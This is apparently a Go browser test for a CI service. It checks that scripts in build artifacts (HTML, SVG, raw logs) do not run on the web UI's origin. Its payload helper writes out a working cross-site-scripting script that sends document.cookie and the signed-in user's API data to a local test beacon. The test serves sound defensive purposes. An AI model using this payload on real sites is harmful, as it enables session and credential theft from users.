package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/chromedp"
)

// chromium starts a headless Chromium that downloads nothing. Without one
// the test is skipped, unless BUILDS_REQUIRE_BROWSER=1 makes that a
// failure.
func chromium(t *testing.T) context.Context {
	t.Helper()
	path := os.Getenv("BUILDS_CHROMIUM")
	if path == "" {
		path = "/usr/bin/chromium"
	}
	if _, err := exec.LookPath(path); err != nil {
		if os.Getenv("BUILDS_REQUIRE_BROWSER") == "1" {
			t.Fatalf("chromium not found at %s and BUILDS_REQUIRE_BROWSER=1", path)
		}
		t.Skipf("chromium not found at %s; set BUILDS_CHROMIUM or install it", path)
	}
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(path), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck, chromedp.UserDataDir(t.TempDir()),
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-dev-shm-usage", true),
	}
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelB := chromedp.NewContext(actx)
	t.Cleanup(func() { cancelB(); cancelA() })
	deny := chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, browser.SetDownloadBehavior,
			browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny})
		return err
	})
	if err := chromedp.Do(ctx, deny); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	return ctx
}

// beacon counts the requests that scripts under test send it.
type beacon struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
	page string // served at /control.html
}

func newBeacon(t *testing.T) *beacon {
	b := &beacon{}
	b.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control.html" {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, b.page)
			return
		}
		b.mu.Lock()
		b.hits = append(b.hits, r.URL.String())
		b.mu.Unlock()
	}))
	t.Cleanup(b.Close)
	return b
}

func (b *beacon) got() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.hits...)
}

// payload is what a hostile build leaves as an artifact or prints in its
// log: it marks the origin it runs on, reads the signed-in user through
// the API with the viewer's cookies and reports to the beacon.
func payload(beaconURL, kind string) string {
	return fmt.Sprintf(`localStorage.setItem('pwned', '%[2]s');
new Image().src = '%[1]s/ran/%[2]s?' + encodeURIComponent(document.cookie);
fetch('/query', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({query: '{ me { username } }'})})
  .then(r => r.text()).then(t => { new Image().src = '%[1]s/read/%[2]s?' + encodeURIComponent(t); });`, beaconURL, kind)
}

// TestArtifactsRunNoScriptOnTheUIOrigin opens, as a signed-in user, a
// build's HTML and SVG artifacts and its raw logs holding scripts: none
// of them may run on the web UI's origin. A control page shows that the
// same script runs when nothing contains it.
func TestArtifactsRunNoScriptOnTheUIOrigin(t *testing.T) {
	ctx := chromium(t)
	images := fakeImages(t)
	conf := filepath.Join(t.TempDir(), "builds.ini")
	os.WriteFile(conf, []byte("[builds.sr.ht::worker]\nimages = "+images+"\n"), 0o644)
	data := t.TempDir()
	s := startServe(t, data, "BUILDS_CONFIG="+conf)
	token := s.userToken("alice")
	if code, out := s.cli("submit", "--token", token, "../../examples/hello.yml"); code != 0 {
		t.Fatalf("submit: %s", out)
	}
	s.waitStatus(token, 1, 30*time.Second, "FAILED")
	b := newBeacon(t)
	html := "<!doctype html><html><body><h1>report</h1><script>" + payload(b.URL, "html") + "</script></body></html>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>` +
		"<![CDATA[" + payload(b.URL, "svg") + "]]></script></svg>"
	dir := filepath.Join(data, "artifacts", "1")
	must(t, os.MkdirAll(dir, 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "report.html"), []byte(html), 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "report.svg"), []byte(svg), 0o644))
	logFile, err := os.OpenFile(filepath.Join(data, "logs", "1", "log"), os.O_APPEND|os.O_WRONLY, 0)
	must(t, err)
	fmt.Fprintf(logFile, "<html><script>%s</script>\n", payload(b.URL, "log"))
	logFile.Close()

	// The control: with no containment the payload runs and reports.
	b.page = "<!doctype html><script>" + payload(b.URL, "control") + "</script>"
	must(t, chromedp.Do(ctx, chromedp.Navigate(b.URL+"/control.html")))
	waitFor(t, func() bool { return hasPrefix(b.got(), "/ran/control") })

	signIn(t, ctx, s)
	for _, p := range []string{"/artifacts/1/report.html", "/artifacts/1/report.svg", "/logs/1/log", "/~alice/job/1/log"} {
		// A download aborts the navigation: that is one of the outcomes
		// wanted, so the error is not checked.
		_ = chromedp.Do(ctx, chromedp.Navigate(s.url+p))
		time.Sleep(500 * time.Millisecond)
	}
	time.Sleep(time.Second)
	must(t, chromedp.Do(ctx, chromedp.Navigate(s.url+"/")))
	marker, err := chromedp.Run(ctx, chromedp.Evaluate[string](`String(localStorage.getItem('pwned'))`))
	must(t, err)
	if marker != "null" {
		t.Errorf("a build's script ran on the UI origin: localStorage marker %q", marker)
	}
	for _, h := range b.got() {
		if (strings.HasPrefix(h, "/ran/") || strings.HasPrefix(h, "/read/")) && !strings.Contains(h, "/control") {
			t.Errorf("a build's script ran: the beacon got %s", h)
		}
	}
	who, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
	must(t, err)
	if !strings.Contains(who, "alice") {
		t.Errorf("the browser was not signed in as alice, so the test proves little; the page says:\n%s", who)
	}
}

// signIn signs the browser in as alice through a one-time login link.
func signIn(t *testing.T, ctx context.Context, s *server) {
	code, out := s.cli("user", "login-link", "alice")
	if code != 0 {
		t.Fatalf("login-link: %s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	link, err := url.Parse(strings.TrimSpace(lines[len(lines)-1]))
	if err != nil {
		t.Fatalf("login link %q: %v", out, err)
	}
	must(t, chromedp.Do(ctx, chromedp.Navigate(s.url+link.RequestURI()),
		chromedp.Click(chromedp.CSS(`form[action="/login/link"] button`))))
	deadline := time.Now().Add(10 * time.Second)
	for {
		loc, err := chromedp.Run(ctx, chromedp.Location())
		if err == nil && !strings.Contains(loc, "/login") {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the login link did not sign the browser in; it is at %s", loc)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("the control page's script did not run: the test cannot tell a contained script from a broken one")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func hasPrefix(list []string, prefix string) bool {
	for _, s := range list {
		if strings.HasPrefix(s, prefix) {
			return true
		}
	}
	return false
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
